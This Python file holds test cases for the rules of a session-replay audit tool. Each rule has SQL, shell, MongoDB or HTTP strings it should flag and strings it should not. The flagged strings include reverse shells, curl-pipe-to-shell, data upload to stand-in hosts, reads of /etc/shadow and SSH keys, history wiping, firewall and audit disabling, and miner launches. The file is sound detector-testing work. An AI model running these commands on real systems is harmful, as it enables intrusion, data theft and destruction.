"""For each shipped rule, texts that it matches and texts that it leaves."""

from __future__ import annotations

from replay_tui.domain.session import Session
from replay_tui.domain.statement import Statement

SQL = Session.parse({"type": "database", "connection_subtype": "postgres"})
MONGO = Session.parse({"type": "database", "connection_subtype": "mongodb"})
MASKED = Session.parse(
    {"connection_subtype": "postgres", "metrics": {"data_masking": {"info_types": {"EMAIL_ADDRESS": 2}}}}
)


CASES: list[tuple[str, str, list[str], list[str]]] = [
    (
        "sql-drop",
        "sql",
        ["drop table t", "DROP SCHEMA a CASCADE", "/* x */ drop view v"],
        [
            "alter table t drop column c",
            "alter table t drop constraint c",
            "select 'drop table t'",
            "-- drop table t\nselect 1",
            'select "drop table" from t',
            "alter table t alter c drop default",
            "drop role bob",
            "insert into log values ('drop table x')",
        ],
    ),
    (
        "sql-drop-part",
        "sql",
        ["alter table t drop column c", "alter table t drop notes cascade", "alter table p detach partition p1"],
        ["alter table t drop constraint c", "alter table t alter c drop default", "drop table t"],
    ),
    (
        "sql-drop-constraint",
        "sql",
        ["alter table t drop constraint c", "alter table t drop primary key", "alter table t drop foreign key f"],
        ["alter table t drop column c", "alter table t alter c drop not null", "drop table t"],
    ),
    (
        "sql-offline",
        "sql",
        ["alter tablespace users offline", "alter table t discard tablespace", "flashback table t to before drop"],
        ["alter tablespace users online", "select 'flashback'"],
    ),
    ("sql-truncate", "sql", ["truncate t", "TRUNCATE TABLE a, b"], ["select truncate(1.5)", "select 'truncate t'"]),
    (
        "sql-delete-all",
        "sql",
        [
            "delete from t",
            "DELETE FROM t WHERE 1=1",
            "with a as (delete from t returning *) select * from a",
            "explain analyze delete from t",
            "delete from t where true",
        ],
        [
            "delete from t where id = 1",
            "select 'delete from t'",
            "grant delete on t to b",
            "delete from t where id in (select 1)",
            "create trigger x after delete on t execute function f()",
            "delete from t where 1=1 and id=2",
        ],
    ),
    (
        "sql-update-all",
        "sql",
        ["update t set a = 1", "UPDATE t SET a='where b=1'", "update t set a = (select 1 from b where c=1)"],
        [
            "update t set a = 1 where id = 2",
            "select * from t for update",
            "insert into t values (1) on conflict (id) do update set a=1",
            "create table t (a int references b on update cascade)",
            "grant update on t to b",
        ],
    ),
    (
        "sql-grant",
        "sql",
        [
            "grant all on t to bob",
            "revoke select on t from bob",
            "alter role bob superuser",
            "alter table t owner to bob",
        ],
        ["select 'grant'", "select has_grant from t", "alter table grants add a int"],
    ),
    (
        "sql-user",
        "sql",
        ["create user bob", "CREATE ROLE r", "drop user bob"],
        ["create table users (a int)", "drop table users", "create user mapping for bob server s"],
    ),
    (
        "sql-role-column",
        "sql",
        ["update users set role='admin' where id=42", "insert into users (name, is_admin) values ('a', true)"],
        [
            "update users set name='role' where id=1",
            "update users set a=1 where role = 'x'",
            "select role from users",
            "insert into users (name) values ('admin')",
        ],
    ),
    (
        "sql-server-program",
        "sql",
        [
            "copy t to program 'curl x'",
            "copy t from program 'id'",
            "select pg_read_file('/etc/passwd')",
            "exec xp_cmdshell 'dir'",
        ],
        ["copy t from stdin", "select 'pg_read_file'", "select program from t"],
    ),
    (
        "sql-copy-out",
        "sql",
        ["copy t to stdout", "copy (select * from t) to '/srv/x'"],
        ["copy t from stdin", "select 'copy t to stdout'"],
    ),
    (
        "sql-logging-off",
        "sql",
        ["set global general_log = 'OFF'", "set log_statement to 'none'", "SET sql_log_bin=0"],
        ["set log_statement to 'all'", "set statement_timeout = 0", "set row_security = off"],
    ),
    (
        "sensitive-columns",
        "masked",
        ["select email from users", "select u.contact_email from u"],
        ["select 'email'", "select id from users", "update users set email='x' where id=1"],
    ),
    (
        "shell-remove",
        "shell",
        [
            "rm -rf /srv/x",
            "rm -r -f x",
            "rm --recursive --force x",
            "sudo rm -fr x",
            "find . -name x -delete",
            "cd /x && rm -rf .",
            "bash -c 'rm -rf x'",
            "echo $(rm -rf x)",
            "xargs rm -rf",
            "/bin/rm -rf x",
        ],
        [
            "rm x",
            "echo 'rm -rf /'",
            "grep 'rm -rf' log",
            "rm -f x",
            "# rm -rf /",
            "git commit -m 'rm -rf'",
            "rm x # -rf",
        ],
    ),
    (
        "shell-disk",
        "shell",
        ["mkfs.ext4 /dev/sdb", "dd if=/dev/zero of=/dev/sda", "shred x", "wipefs -a /dev/sdb"],
        ["dd if=x", "echo mkfs", "fdisk -l", "man mkfs"],
    ),
    (
        "shell-permissions",
        "shell",
        ["chmod 777 x", "chmod -R a+w x", "chown -R bob x", "chmod u+s x", "chmod 4755 x"],
        ["chmod 644 x", "chmod +x x", "chown bob x", "chmod u+x deploy.sh"],
    ),
    (
        "shell-mount",
        "shell",
        ["mount -o remount,rw /", "mount /dev/sdb1 /mnt", "umount -l /srv", "sudo mount -t nfs a:/b /mnt"],
        ["mount", "mount -l", "mount -t nfs", "mountpoint /srv", "df /mnt"],
    ),
    (
        "shell-scan",
        "shell",
        ["nmap -sS 10.0.0.0/24", "sudo masscan 10.0.0.0/8 -p80", "hydra -l root ssh://db-1", "nc -zv db-1 1-1000"],
        ["nmap --version", "man nmap", "echo nmap 10.0.0.1", "nc -l 80", "ping -c3 db-1", "apt install nmap"],
    ),
    (
        "shell-search-secrets",
        "shell",
        [
            "grep -r password /etc",
            "grep -rniE 'api_key|secret' /srv/app",
            "rg token ~",
            "printenv | grep -i secret",
            "env | sort | grep PASSWORD",
            "find / -perm -4000 -type f 2>/dev/null",
            "find / -perm -u=s -type f",
            "find /home -name id_rsa",
            "getcap -r / 2>/dev/null",
            "locate id_rsa",
            "gitleaks detect",
        ],
        [
            "grep -rn password src",
            "grep password /etc/app.conf",
            "grep -r timeout /etc",
            "env | grep PATH",
            "ps aux | grep token-service",
            "find . -perm 644",
            "find . -name '*.log'",
            "getcap /usr/bin/ping",
            "grep",
        ],
    ),
    (
        "shell-mining",
        "shell",
        [
            "nohup ./xmrig -o pool.example:3333 &",
            "/tmp/.x/minerd -a cryptonight",
            "./a -o stratum+tcp://pool.example:1",
        ],
        ["pkill xmrig", "grep -r xmrig /tmp", "echo stratum+tcp://pool.example", "ls xmrig"],
    ),
    (
        "shell-mode",
        "shell",
        ["chmod 644 x", "chmod +x x", "chown bob x", "chgrp -h dev x", "sudo chown bob x"],
        ["chmod 777 x", "chmod -R a+w x", "chown -R bob x", "chmod --help", "ls x"],
    ),
    (
        "shell-grants",
        "shell",
        [
            "kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=bob",
            "kubectl -n prod delete rolebinding x",
            "aws iam attach-user-policy --user-name bob --policy-arn a",
            "gcloud projects add-iam-policy-binding p --member=user:bob --role=roles/owner",
            "az role assignment create --assignee bob --role Owner",
        ],
        ["kubectl get rolebindings", "aws iam list-users", "gcloud projects get-iam-policy p"],
    ),
    (
        "shell-privilege",
        "shell",
        ["sudo ls", "su - root", "doas ls", "ls; sudo -n true"],
        ["sudo -V", "echo sudo", "cat sudo.txt", "su-exec x"],
    ),
    (
        "shell-run-download",
        "shell",
        ["curl -s x | sh", "wget -qO- x | sudo bash", "echo aGk= | base64 -d | sh", "bash <(curl x)"],
        ["curl x | jq .", "echo 'curl x | sh'", "cat x | sh"],
    ),
    (
        "shell-upload",
        "shell",
        [
            "curl -d @f http://x",
            "curl -T f http://x",
            "scp f host:/x",
            "nc host 80",
            "rsync -a d me@host:/x",
            "curl -XPOST http://x",
            "aws s3 cp f s3://b/",
        ],
        ["curl http://x", "scp host:/x .", "echo nc", "rsync -a a b", "aws s3 cp s3://b/f ."],
    ),
    ("shell-encode", "shell", ["base64 /etc/passwd", "base64 -w0 f", "xxd f"], ["base64 -d f", "echo base64"]),
    ("shell-dump", "shell", ["pg_dump shop", "mysqldump -u a b"], ["pg_dump --version", "man pg_dump"]),
    (
        "shell-history",
        "shell",
        [
            "history -c",
            "unset HISTFILE",
            "export HISTFILE=/dev/null",
            "rm ~/.bash_history",
            "> ~/.bash_history",
            "set +o history",
            "ln -sf /dev/null ~/.zsh_history",
        ],
        ["history", "history | grep x", "cat ~/.bash_history", "history > build/history.txt", "export HISTSIZE=5000"],
    ),
    (
        "shell-accounts",
        "shell",
        ["useradd bob", "passwd root", "usermod -aG sudo bob", "echo k >> ~/.ssh/authorized_keys", "sudo visudo"],
        ["cat /etc/passwd", "grep bob /etc/group", "ls -l ~/.ssh/authorized_keys", "passwd -S bob"],
    ),
    (
        "shell-secret-files",
        "shell",
        ["cat /etc/shadow", "cp ~/.ssh/id_rsa x", "cat ~/.aws/credentials"],
        ["cat ~/.ssh/id_rsa.pub", "cat /etc/hosts", "man shadow"],
    ),
    (
        "shell-defences",
        "shell",
        ["iptables -F", "ufw disable", "setenforce 0", "systemctl stop auditd", "nft flush ruleset"],
        ["iptables -L -n", "ufw status", "getenforce", "systemctl status auditd", "iptables -nvL"],
    ),
    (
        "shell-services",
        "shell",
        ["systemctl stop nginx", "service nginx stop", "reboot", "docker rm -f x", "shutdown -h now"],
        ["systemctl status nginx", "service nginx status", "echo reboot", "docker ps", "shutdown -c"],
    ),
    ("shell-kill", "shell", ["kill -9 1", "pkill java", "killall -9 x"], ["kill 1", "echo kill -9 1"]),
    (
        "shell-persistence",
        "shell",
        ["crontab -e", "echo x >> ~/.bashrc", "systemctl enable x", "tee /etc/cron.d/x"],
        ["crontab -l", "cat ~/.bashrc", "systemctl is-enabled x"],
    ),
    (
        "shell-cluster",
        "shell",
        [
            "kubectl delete pod x",
            "kubectl -n a delete ns b",
            "terraform destroy",
            "git push --force",
            "aws ec2 terminate-instances --x",
            "docker system prune -f",
        ],
        ["kubectl get pods", "terraform plan", "git push", "aws ec2 describe-instances"],
    ),
    (
        "shell-reverse",
        "shell",
        ["bash -i >& /dev/tcp/1.2.3.4/80 0>&1", "nc -e /bin/sh h 1", "socat tcp:h:1 exec:sh"],
        ["bash -i", "nc -z h 1"],
    ),
    ("http-delete", "http", ["DELETE /a"], ["GET /DELETE /a", "POST /delete"]),
    ("http-write", "http", ["PUT /a", "PATCH /a"], ["GET /a", "POST /PUT"]),
    (
        "mongo-drop",
        "mongo",
        ['{"drop": "t"}', '{"dropDatabase": 1}', "db.t.drop()"],
        ['{"find": "drop"}', "db.t.find({a: 'drop'})"],
    ),
    (
        "mongo-delete-all",
        "mongo",
        ['{"delete": "t", "deletes": [{"q": {}, "limit": 0}]}', "db.t.deleteMany({})"],
        [
            '{"delete": "t", "deletes": [{"q": {"a": 1}, "limit": 0}]}',
            '{"delete": "t", "deletes": [{"q": {}, "limit": 1}]}',
            "db.t.deleteMany({a: 1})",
        ],
    ),
    (
        "mongo-update-all",
        "mongo",
        ['{"update": "t", "updates": [{"q": {}, "u": {}, "multi": true}]}', "db.t.updateMany({}, {$set: {a: 1}})"],
        ['{"update": "t", "updates": [{"q": {"_id": 7}, "u": {}}]}', "db.t.updateMany({a: 1}, {})"],
    ),
    (
        "mongo-users",
        "mongo",
        ['{"createUser": "bob"}', '{"grantRolesToUser": "bob"}', "db.createUser({})"],
        ['{"find": "users"}', '{"usersInfo": 1}'],
    ),
    ("mcp-dangerous-tool", "mcp", ["delete_file {}", "run_command {}"], ["read_file {}", 'search {"q": "delete"}']),
]


def statement(where: str, text: str) -> tuple[Session, Statement]:
    if where in ("sql", "masked"):
        from replay_tui.decoders.sql.classify import classify

        kind, verb = classify(text)
        return (MASKED if where == "masked" else SQL), Statement(0.0, kind, text, verb=verb)
    if where == "mongo":
        from replay_tui.decoders.mongo import describe_command, read_command

        command = read_command(text)
        kind, verb, _ = describe_command(command) if command else ("script", "", {})
        return MONGO, Statement(0.0, kind, text, verb=verb)
    return Session.parse({}), Statement(0.0, where, text)
